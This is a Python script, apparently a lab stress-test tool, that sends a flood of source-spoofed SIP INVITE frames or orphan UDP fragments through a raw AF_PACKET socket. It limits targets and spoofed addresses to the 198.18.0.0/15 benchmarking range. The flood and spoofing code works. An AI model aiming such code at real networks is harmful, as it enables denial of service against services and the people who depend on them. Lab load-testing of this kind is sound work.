# Spoofed-source SIP INVITE flood from prebuilt Ethernet frames through an
# AF_PACKET socket. Every source address is random but inside 198.18.0.0/15
# (the benchmarking range the lab lives in), never outside it: the frames
# never leave the lab, and even a reply to one could only go to the lab.
# 198.18.0.0/24 (the lab's own nodes) and .0/.255 hosts are skipped, so no
# frame claims to come from a real lab address or a broadcast address.
#
# usage: rawflood.py IFACE SRC_MAC DST_MAC DST_IP PORT COUNT DURATION SOURCES SEED [KIND]
# Sends COUNT frames or for DURATION seconds, whichever ends first, cycling
# through SOURCES prebuilt frames (one random source each). Prints JSON.
# KIND is "invite" (the default) or "later-fragments": non-first fragments
# of UDP datagrams (offset 1480, 1000 bytes of filler, a random IP id per
# frame), whose first fragment never comes.
import errno
import ipaddress
import json
import random
import socket
import struct
import sys
import time

iface, src_mac, dst_mac, dst_ip = sys.argv[1:5]
port, count = int(sys.argv[5]), int(sys.argv[6])
duration, nsrc, seed = float(sys.argv[7]), int(sys.argv[8]), int(sys.argv[9])
kind = sys.argv[10] if len(sys.argv) > 10 else "invite"
assert kind in ("invite", "later-fragments"), f"unknown KIND {kind}"

NET = ipaddress.ip_network("198.18.0.0/15")
LAB_NODES = ipaddress.ip_network("198.18.0.0/24")
dst = ipaddress.ip_address(dst_ip)
assert dst in NET, "destination outside 198.18.0.0/15"


def csum_words(data):
    if len(data) % 2:
        data += b"\0"
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def fold(s):
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


rng = random.Random(seed)
sources = set()
while len(sources) < nsrc:
    a = ipaddress.ip_address(int(NET.network_address) + rng.randrange(NET.num_addresses))
    last = int(a) & 0xFF
    if a in LAB_NODES or last in (0, 255):
        continue
    sources.add(a)
sources = sorted(sources, key=lambda _: rng.random())

payload = (
    f"INVITE sip:100@{dst_ip}:{port} SIP/2.0\r\n"
    "Via: SIP/2.0/UDP 198.18.0.0:5060;branch=z9hG4bK-1\r\n"
    "Max-Forwards: 70\r\n"
    f"From: <sip:caller@{dst_ip}>;tag=1\r\n"
    f"To: <sip:100@{dst_ip}>\r\n"
    "Call-ID: 1@198.18.0.0\r\n"
    "CSeq: 1 INVITE\r\n"
    "Content-Length: 0\r\n\r\n"
).encode()
udp_len = 8 + len(payload)
ip_len = 20 + udp_len
# The UDP checksum differs per frame only by the source address in the
# pseudo-header: sum the rest once.
base = csum_words(payload) + csum_words(dst.packed) + 17 + udp_len * 2 + port + 5060
eth = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) + b"\x08\x00"
frames = []
for i, src in enumerate(sources):
    if kind == "later-fragments":
        rest = b"x" * 1000
        ip = struct.pack(
            "!BBHHHBBH4s4s", 0x45, 0, 20 + len(rest), rng.randrange(1 << 16), 1480 // 8, 64, 17, 0,
            src.packed, dst.packed,
        )
        ip = ip[:10] + struct.pack("!H", 0xFFFF - fold(csum_words(ip))) + ip[12:]
        frames.append(eth + ip + rest)
        continue
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, ip_len, i & 0xFFFF, 0, 64, 17, 0, src.packed, dst.packed)
    ip = ip[:10] + struct.pack("!H", 0xFFFF - fold(csum_words(ip))) + ip[12:]
    c = 0xFFFF - fold(base + csum_words(src.packed))
    udp = struct.pack("!HHHH", 5060, port, udp_len, c or 0xFFFF)
    frames.append(eth + ip + udp + payload)

s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
sent = errors = 0
n = len(frames)
start = time.monotonic()
deadline = start + duration
while sent + errors < count:
    # Look at the clock once per batch: it costs as much as a send.
    for i in range(sent + errors, min(sent + errors + 256, count)):
        try:
            s.send(frames[i % n])
            sent += 1
        except OSError as e:
            if e.errno != errno.ENOBUFS:
                raise
            errors += 1
    if time.monotonic() >= deadline:
        break
elapsed = time.monotonic() - start
print(json.dumps({"sent": sent, "errors": errors, "elapsed": elapsed, "sources": n}), flush=True)
